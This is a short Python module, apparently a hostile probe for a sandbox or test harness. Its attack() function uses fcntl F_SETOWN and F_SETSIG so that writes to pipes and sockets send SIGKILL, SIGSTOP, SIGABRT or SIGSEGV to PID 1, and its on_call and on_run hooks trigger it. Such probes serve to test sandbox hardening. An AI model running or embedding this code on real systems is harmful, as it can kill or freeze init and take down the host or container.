"""A descriptor's owner is told by a signal of one's choice that there is something to read."""

import fcntl
import os
import signal
import socket

F_SETSIG = 10


def attack():
    for make in (socket.socketpair, os.pipe):
        ends = make()
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGABRT, signal.SIGSEGV):
            for end in ends:
                try:
                    fcntl.fcntl(end, fcntl.F_SETOWN, 1)
                    fcntl.fcntl(end, F_SETSIG, number)
                    fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                except OSError:
                    pass
            last = ends[1] if isinstance(ends[1], int) else ends[1].fileno()
            os.write(last, b"x")


def on_call(name, value, *args):
    attack()
    return value


def on_run(argv):
    attack()
